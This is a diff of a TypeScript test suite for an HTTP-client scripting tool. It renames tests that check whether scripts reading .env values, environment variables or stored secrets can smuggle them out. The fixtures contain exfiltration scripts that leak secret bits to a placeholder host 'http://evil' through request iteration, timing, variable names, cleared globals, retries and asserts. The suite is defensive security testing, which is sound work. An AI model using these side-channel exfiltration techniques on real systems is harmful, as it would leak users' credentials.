@@ -28,14 +28,14 @@ describe('what a script has read', () => {
     ['.env', '$dotenv TOK', 'what is in .env'],
     ['the environment of the process', '$processEnv TOK', 'the environment variable TOK'],
     ['a kept secret', '$secret tok', 'the secret tok'],
-  ])('is not told by whether its own request goes out: %s', async (_, name, what) => {
+  ])('is not shown by whether its own request goes out: %s', async (_, name, what) => {
     const text = `# @loop for 14\n< {%\n  const s = client.environment.get("${name}");\n  const i = request.iteration();\n  if (!((s.charCodeAt(Math.floor(i / 7)) >> (i % 7)) & 1)) throw 1;\n%}\nGET http://evil/bit/{{$index}}\n`;
     const { lines, outcomes } = await send(text);
     expect([outcomes.length, lines]).toEqual([14, []]);
     expect(problemsOf(outcomes)).toContain(`what a script has read (${what}) may not go to http://evil`);
   });
 
-  it('is not told by the names of what is kept', async () => {
+  it('is not shown by the names of what is kept', async () => {
     const text = `@key = {{$dotenv TOK}}\n\n{{\n  exports["leak_" + key] = 1;\n}}\nGET http://own/1\n\n###\n{{\n  exports.seen = Reflect.ownKeys(exports).join();\n  console.log(exports.seen);\n}}\nGET http://evil/names?x={{seen}}\n`;
     const { lines, outcomes, answers } = await send(text);
     expect(lines).toEqual(['GET http://own/1']);
@@ -44,7 +44,7 @@ describe('what a script has read', () => {
     expect(JSON.stringify(outcomes[1]?.log)).not.toContain('leak_');
   });
 
-  it('is not told by what is cleared', async () => {
+  it('is not shown by what is cleared', async () => {
     const text = `< {% for (let i = 0; i < 14; i++) client.global.set("b" + i, 1) %}\nGET http://evil/1\n\n###\n< {%\n  const s = ${read};\n  for (let i = 0; i < 14; i++) if ((s.charCodeAt(Math.floor(i / 7)) >> (i % 7)) & 1) client.global.clear("b" + i);\n%}\nGET http://own/2\n\n###\n@b3 = 0\nGET http://evil/{{b3}}\n\n###\n< {% let bits = ""; for (let i = 0; i < 14; i++) bits += client.global.get("b" + i) === null ? 1 : 0; client.global.set("bits", bits) %}\nGET http://evil/{{bits}}\n`;
     const { lines, outcomes } = await send(text);
     expect(lines).toEqual(['GET http://evil/1', 'GET http://own/2']);
@@ -54,7 +54,7 @@ describe('what a script has read', () => {
     ]);
   });
 
-  it('is not told by how often a request is sent', async () => {
+  it('is not shown by how often a request is sent', async () => {
     const until = (host: string) =>
       `@key = {{$dotenv TOK}}\n\n# @until js key.length !== 2 every 100 ms within 300 ms\nGET http://${host}/\n`;
     const { lines, outcomes } = await send(until('evil'));
@@ -72,7 +72,7 @@ describe('what a script has read', () => {
     expect(allowed.lines.length).toBeGreaterThan(1);
   });
 
-  it('is not told by an assert that ends the run', async () => {
+  it('is not shown by an assert that ends the run', async () => {
     const text = (assert: string) => `GET http://own/1\n\n?? ${assert}\n\n###\nGET http://evil/2\n`;
     const asserts = ['$.id != {{$dotenv TOK}}', 'js key.charAt(0) == a'];
     for (const assert of asserts) {
@@ -83,7 +83,7 @@ describe('what a script has read', () => {
     }
   });
 
-  it('is not told by a script behind a request, nor by how long one waits', async () => {
+  it('is not shown by a script behind a request, nor by how long one waits', async () => {
     const behind = `GET http://own/1\n\n> {% if (${read}.length === 2) throw 1 %}\n\n###\nGET http://evil/2\n`;
     expect((await send(behind)).lines).toEqual(['GET http://own/1']);
     const waiting = `@key = {{$dotenv TOK}}\n\n{{\n  await sleep(key.charCodeAt(0));\n}}\nGET http://evil/1\n`;
@@ -206,7 +206,7 @@ describe('what scripts keep', () => {
 });
 
 describe('a script that asks for one variable after the other', () => {
-  it('is told how long it has run, so that its time is one for all', async () => {
+  it('learns how long it has run, so that its time is one for all', async () => {
     const spent: (number | undefined)[] = [];
     const scriptBox = () =>
       Promise.resolve<RunScript>((input) => {
@@ -220,12 +220,15 @@ describe('a script that asks for one variable after the other', () => {
 });
 
 describe('a private file', () => {
-  it.each(['/f/.env', '/f/http-client.private.env.json'])('is no script, whatever leads to it: %s', async (path) => {
-    const readFile = () => Promise.resolve(bodyFile(new TextEncoder().encode('CANARY_9'), path));
-    const { outcomes } = await send('GET http://own/1\n\n> ./e.js\n', { readFile });
-    expect(outcomes[0]?.asserts[0]?.message).toContain('The file ./e.js is private, so it is not run as a script');
-    expect(JSON.stringify(outcomes[0]?.asserts)).not.toContain('CANARY');
-  });
+  it.each(['/f/.env', '/f/http-client.private.env.json'])(
+    'is not run as a script, whatever leads to it: %s',
+    async (path) => {
+      const readFile = () => Promise.resolve(bodyFile(new TextEncoder().encode('CANARY_9'), path));
+      const { outcomes } = await send('GET http://own/1\n\n> ./e.js\n', { readFile });
+      expect(outcomes[0]?.asserts[0]?.message).toContain('The file ./e.js is private, so it is not run as a script');
+      expect(JSON.stringify(outcomes[0]?.asserts)).not.toContain('CANARY');
+    },
+  );
 });
 
 describe('the words of a script that has read a private value', () => {
